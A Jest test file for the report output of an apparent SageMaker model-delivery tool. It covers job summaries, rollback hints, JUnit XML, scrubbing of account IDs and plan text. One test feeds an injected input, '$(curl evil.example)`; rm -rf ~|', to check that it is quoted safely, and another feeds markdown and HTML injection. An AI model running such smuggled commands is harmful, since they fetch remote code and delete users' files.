import { describe, expect, it } from '@jest/globals';
import type { Judgement } from '../../../src/findings/judgement.ts';
import type { Outcome } from '../../../src/outcome.ts';
import { reasonCodes } from '../../../src/reason-codes.ts';
import { junitOf } from '../../../src/report/junit.ts';
import { newsFilter } from '../../../src/report/news.ts';
import { planAsText } from '../../../src/report/plan.ts';
import { type Report, type Result, scrubbed, withoutAccount } from '../../../src/report/result.ts';
import { summaryOf } from '../../../src/report/summary.ts';
import { countingPlan } from '../../support/fake-operation.ts';

const result: Result = {
  'schema-version': 1,
  operation: 'deploy-endpoint',
  outcome: 'succeeded',
  reason: 'delivered',
  because: 'churn serves 1.4.0',
  outputs: { 'endpoint-config': 'churn-1-4-0-1a2b3c4d', 'previous-endpoint-config': 'churn-1-3-0-9f8e7d6c' },
  plan: countingPlan,
  dryRun: false,
  startedAt: '2026-01-05T09:00:00Z',
  endedAt: '2026-01-05T09:31:05Z',
};
const report = (change: Partial<Result> = {}, rest: Partial<Report> = {}): Report => ({
  result: { ...result, ...change },
  inputs: { manifest: 'delivery.yml', environment: 'production', version: '1.4.0' },
  timeline: [{ at: Date.parse('2026-01-05T09:10:00Z'), percent: 40, because: '1 of 4 instances | canary' }],
  url: 'https://github.com/octo/churn/actions/runs/7',
  remarks: [],
  ...rest,
});

describe('the job summary', () => {
  it('says the verdict first, then everything behind it', () => {
    const markdown = summaryOf(report());
    expect(markdown.split('\n').slice(0, 5)).toEqual([
      '## ✅ deploy-endpoint: succeeded',
      '',
      '`delivered`: churn serves 1.4.0',
      '',
      `${reasonCodes.delivered.meaning} Started 2026-01-05T09:00:00Z, ended 2026-01-05T09:31:05Z, took 31m 5s.`,
    ]);
    expect(markdown).toContain('| `environment` | production |');
    expect(markdown).toContain('| update | count | 0 → 3 |');
    expect(markdown).toContain('| 2026-01-05T09:10:00Z | 40 % | 1 of 4 instances \\| canary |');
    expect(markdown).toContain(
      '### Result\n\n| output | value |\n| --- | --- |\n| `endpoint-config` | churn-1-4-0-1a2b3c4d |\n| `previous-endpoint-config` | churn-1-3-0-9f8e7d6c |',
    );
    expect(markdown).toContain('`model-delivery rollback --manifest delivery.yml --environment production`');
    expect(markdown).toContain('[The run](https://github.com/octo/churn/actions/runs/7)');
  });

  it('links the pages about a release, and names a place that has none', () => {
    const places = [
      {
        title: 'Endpoint',
        name: 'churn',
        url: 'https://eu-west-1.console.aws.amazon.com/sagemaker/home#/endpoints/churn',
      },
      { title: 'Release record', name: 's3://model-delivery-<account>-eu-west-1/churn/record.json' },
    ];
    expect(summaryOf(report({}, { places }))).toContain(
      [
        '### Where to look',
        '',
        '- [Endpoint](https://eu-west-1.console.aws.amazon.com/sagemaker/home#/endpoints/churn): `churn`',
        '- Release record: `s3://model-delivery-<account>-eu-west-1/churn/record.json`',
      ].join('\n'),
    );
    expect(summaryOf(report({ dryRun: true }, { places }))).not.toContain('Where to look');
  });

  it('says what was seen to serve, and claims nothing when nobody looked', () => {
    const outputs = { 'serving-version': '1.3.0', 'serving-endpoint-config': 'churn-1-3-0-9f8e7d6c' };
    expect(summaryOf(report({ outcome: 'rolled-back', reason: 'alarm', outputs }))).toContain(
      '### What serves now\n\n**1.3.0** (`churn-1-3-0-9f8e7d6c`)',
    );
    expect(summaryOf(report({ outcome: 'cancelled', reason: 'cancelled' }))).not.toContain('serves now');
  });

  it('says in a sentence and a table what the judge found', () => {
    const findings: Judgement = {
      is: 'judgement',
      exposed: 873,
      harmed: 1,
      logEvidence: 5.407,
      threshold: 4.605,
      metrics: [
        {
          says: 'errors',
          candidate: { requests: 873, bad: 36 },
          baseline: { requests: 8127, bad: 0 },
          excess: 0.04124,
          interval: [0.02, 0.0679],
          logEvidence: 6.3,
          health: { logEvidence: 0, threshold: 2.996 },
        },
      ],
    };
    const markdown = summaryOf(report({ findings }));
    expect(markdown).toContain(
      '### What the judge found\n\nIn the judged minutes the candidate had 873 requests and failed 1 time.',
    );
    expect(markdown).toContain(
      '| errors | 36 of 873 (4.12 %) | 0 of 8127 (0 %) | 4.12 % (2 % to 6.79 %) | 545 | 1 of 20 |\n| together |  |  |  | 223 of 100 |  |',
    );
    expect(summaryOf(report())).not.toContain('judge');
  });

  it("shows callers' mistakes as their own figure, and says when the candidate has many more of them", () => {
    const found = (logEvidence: number): Judgement => ({
      is: 'judgement',
      exposed: 900,
      harmed: 0,
      logEvidence: 0,
      threshold: 4.605,
      metrics: [
        {
          says: '4xx answers',
          candidate: { requests: 900, bad: 30 },
          baseline: { requests: 8100, bad: 40 },
          interval: [0, 0.05],
          logEvidence,
          reported: true,
        },
      ],
    });
    const reported = (logEvidence: number): string => summaryOf(report({ findings: found(logEvidence) }));
    expect(reported(0)).toContain(
      '| 4xx answers | 30 of 900 (3.33 %) | 40 of 8100 (0.494 %) | unknown | 1, not judged | not required |',
    );
    expect(reported(0)).not.toContain('Remark');
    expect(reported(5)).toContain('Remark: 4xx answers, 30 of 900 (3.33 %) beside 40 of 8100 (0.494 %)');
  });

  const before = { 'previous-version': '1.3.0', 'previous-endpoint-config': 'churn-1-3-0-9f8e7d6c' };
  const restored = { 'previous-version': '1.4.0', 'previous-endpoint-config': 'churn-1-4-0-1a2b3c4d' };
  const back = 'model-delivery rollback --manifest delivery.yml --environment production';
  it.each<[string, Pick<Result, 'operation' | 'reason' | 'outputs'>, string | undefined]>([
    ['a delivery', { operation: 'deploy-endpoint', reason: 'delivered', outputs: before }, back],
    ['a shift', { operation: 'shift-traffic', reason: 'delivered', outputs: before }, back],
    ['a rollback', { operation: 'rollback', reason: 'restored', outputs: restored }, `${back} --to 1.4.0`],
    [
      'a rollback from a configuration of others',
      { operation: 'rollback', reason: 'restored', outputs: { ...restored, 'previous-version': '' } },
      `${back} --to churn-1-4-0-1a2b3c4d`,
    ],
    [
      'a first deployment',
      { operation: 'deploy-endpoint', reason: 'delivered', outputs: { 'previous-endpoint-config': '' } },
      undefined,
    ],
    ['nothing done', { operation: 'deploy-endpoint', reason: 'already-delivered', outputs: before }, undefined],
    ['a registration', { operation: 'register-model', reason: 'registered', outputs: {} }, undefined],
  ])('names the way to undo %s', (_, change, command) => {
    const line = summaryOf(report(change))
      .split('\n')
      .find((one) => one.startsWith('To undo it'));
    expect(line).toBe(command && `To undo it: \`${command}\`, or the \`rollback\` action with the same inputs.`);
  });

  it('tells every reason with its remedy', () => {
    for (const [reason, { outcome, remedy }] of Object.entries(reasonCodes)) {
      const markdown = summaryOf(report({ reason: reason as Result['reason'], outcome: outcome as Outcome }));
      expect(markdown).toContain(`deploy-endpoint: ${outcome}`);
      expect(markdown).toContain(remedy);
    }
  });

  it('cannot be spoilt by what AWS or a user wrote', () => {
    const markdown = summaryOf(report({ because: 'a | b\n## <img src=x> `c` [d](e)' }));
    expect(markdown).toContain('a \\| b ## &lt;img src=x> \\`c\\` \\[d\\](e)');
  });

  it('prints a command that stays one, whatever the inputs say', () => {
    const requested = { manifest: 'a b.yml', environment: '$(curl evil.example)`; rm -rf ~|' };
    const markdown = summaryOf(report({}, { inputs: requested }));
    expect(markdown).toContain(
      "``model-delivery rollback --manifest 'a b.yml' --environment '$(curl evil.example)`; rm -rf ~``\\|`'`",
    );
  });

  it('stays below 1 MiB and says that it was cut', () => {
    const timeline = Array.from({ length: 20_000 }, (_, at) => ({ at, percent: 1, because: `é${'x'.repeat(60)}` }));
    const markdown = summaryOf(report({}, { timeline }));
    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(1024 * 1024);
    expect(markdown).toMatch(/x \|\n\n> The summary ends here/);
  });
});

describe('a result', () => {
  it('carries neither ARN nor account id, wherever they stood', () => {
    const dirty = {
      ...result,
      because: 'User: arn:aws:sts::111122223333:assumed-role/deployer/x may not, in 111122223333',
      outputs: { image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/churn@sha256:ab123456789012cd' },
      plan: { ...countingPlan, notes: ['arn:aws-cn:s3:::bucket/key'] },
    };
    const clean = scrubbed(dirty);
    expect(JSON.stringify(clean)).not.toMatch(/arn:|\b\d{12}\b/);
    expect(clean.because).toBe('User: assumed-role/deployer/x may not, in <account>');
    expect(clean.outputs['image']).toBe('<account>.dkr.ecr.eu-west-1.amazonaws.com/churn@sha256:ab123456789012cd');
    expect(clean.plan?.notes).toEqual(['bucket/key']);
  });

  it('leaves names of twelve digits alone, once the account is known', () => {
    const reported = withoutAccount(
      'churn-202601011200 in 111122223333, sagemaker-eu-west-1-111122223333',
      '111122223333',
    );
    expect(reported).toBe('churn-202601011200 in <account>, sagemaker-eu-west-1-<account>');
    expect(withoutAccount('444455556666.dkr.ecr.eu-west-1.amazonaws.com/churn', '111122223333')).not.toContain('4444');
  });

  it('leaves times and other numbers alone', () => {
    expect(withoutAccount('1767603600000 of 12345678901')).toBe('1767603600000 of 12345678901');
  });
});

describe('JUnit', () => {
  it('knows passed, skipped and failed', () => {
    expect(junitOf(report())).toContain('failures="0" skipped="0" time="1865.000"');
    expect(junitOf(report({ dryRun: true }))).toContain('name="deploy-endpoint (dry run)"');
    expect(junitOf(report({ outcome: 'pending', reason: 'approval-pending' }))).toContain('<skipped message="pending/');
    const failed = junitOf(report({ outcome: 'rolled-back', reason: 'alarm', because: '"5xx" > 1 % & rising\u0007' }));
    expect(failed).toContain('message="rolled-back/alarm: &#34;5xx&#34; &#62; 1 % &#38; rising\\u0007"');
    expect(failed).toContain('failures="1"');
  });
});

describe('news', () => {
  it('is every change, and otherwise a sign of life every five minutes', () => {
    const minute = 60_000;
    const filter = newsFilter();
    const seen = [0, 1, 2, 4, 5, 6, 7, 12].map((at) =>
      filter({ at: at * minute, percent: at, because: at < 2 ? 'launches' : 'bakes' }),
    );
    expect(seen).toEqual(['change', undefined, 'change', undefined, undefined, undefined, 'heartbeat', 'heartbeat']);
  });
});

describe('a plan as text', () => {
  it('has no line that foreign text began', () => {
    const text = planAsText({ ...countingPlan, notes: ['better\ndeploy-endpoint: succeeded/delivered'] });
    expect(text).toContain('\n  note: better\\ndeploy-endpoint: succeeded/delivered\n');
  });

  it('has the metrics beside those that serve, and what is missing', () => {
    const text = planAsText({
      ...countingPlan,
      metrics: {
        tag: 'churn_v1.4.0',
        serves: { is: 'known', value: { endpoint: 'churn', name: 'churn_v1.3.0' } },
        metrics: [
          { name: 'auc', candidate: 0.91, serving: 0.9, better: 'higher' },
          { name: 'odd', serving: 1 },
        ],
        metricsLeft: 2,
        metricNotes: ['s3://reports/a.json is absent'],
      },
    });
    expect(text).toContain(
      [
        '  metrics: churn_v1.3.0 serves at churn.',
        '           auc 0.91, serving 0.9 (+0.01 ▲ better)',
        '           odd –, serving 1 (–)',
        '           s3://reports/a.json is absent',
        '           2 more metrics: see the evaluation of the package.',
        '  note: counting is safe',
      ].join('\n'),
    );
  });

  it('says that there is nothing to do', () => {
    expect(planAsText({ ...countingPlan, changes: [], peakInstances: {}, permissions: [] })).toBe(
      'count to three\n  nothing to change\n  note: counting is safe\n  expected: 3m\n  permissions: none',
    );
  });
});
